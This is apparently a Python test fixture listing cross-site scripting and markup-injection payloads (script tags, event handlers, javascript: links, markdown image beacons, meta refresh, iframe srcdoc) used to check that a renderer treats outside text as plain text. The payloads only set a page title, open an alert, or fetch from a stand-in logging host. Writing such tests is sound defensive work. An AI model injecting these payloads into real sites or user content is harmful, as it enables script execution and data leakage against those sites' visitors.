"""Scripts and markup that a text from outside may hold. Each would leave a trace in a browser that took it for more
than text: it sets the title of the page to `broken`, opens a dialog, or asks the address `TRAP` for something.
"""

TRAP = "http://trap"
"""Stands for the address of a server that writes down what it is asked for."""
RUN = "self.ran?0:(ran=1,document.title='broken',alert(1),fetch('http://trap/fetch'))"
"""Runs once: a dialog that closes would give its element the focus again, and so on."""
PAYLOADS = (
    f"<script>{RUN}</script>",
    f'<svg onload="{RUN}">',
    f'<svg viewBox="0 0 1 1"><script>{RUN}</script></svg>',
    f'<img src=x onerror="{RUN}">',
    '<img src="http://trap/image">',
    "![image](http://trap/markdown)",
    "![image][ref]\n\n[ref]: http://trap/reference",
    f'[a link](javascript:{RUN}) <a href="javascript:{RUN}">another</a>',
    f"\n```\n<script>{RUN}</script>\n",
    f"`` ` <script>{RUN}</script>",
    f"| cell |\n|---|\n| <img src=x onerror={RUN}> |",
    f"</pre></code></title></style></script><script>{RUN}</script>",
    f'\n\n# heading\n\n<details open ontoggle="{RUN}">\n\n    code',
    f'" autofocus onfocus="{RUN}" x="',
    f"<input autofocus onfocus={RUN}><video><source onerror={RUN}></video>",
    f'<iframe srcdoc="<script>parent.document.title=1;{RUN}</script>" src="http://trap/frame"></iframe>',
    '<link rel="stylesheet" href="http://trap/style"><style>@import "http://trap/import";</style>',
    '<meta http-equiv="refresh" content="0;url=http://trap/refresh"><base href="http://trap/">',
    f"--> ]]> %}} }}}} {{{{ 7 * 7 }}}} <!-- --!> <math><mtext><script>{RUN}</script></mtext></math>",
    "x\r\n---\r\nlicense: evil\n---\n<object data=http://trap/object></object>\x1b]0;broken\x07\u202e<embed src=http://trap/e>",
)


def payloads(trap: str) -> list[str]:
    """The payloads with the address of a trap."""
    return [payload.replace(TRAP, trap) for payload in PAYLOADS]
